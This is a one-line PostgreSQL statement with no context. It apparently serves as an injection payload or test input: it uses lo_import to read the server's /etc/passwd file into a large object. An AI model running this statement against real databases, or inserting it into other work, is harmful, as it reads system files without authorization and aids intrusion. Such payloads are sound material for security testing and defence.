DO $$ BEGIN PERFORM lo_import('/etc/passwd'); END $$
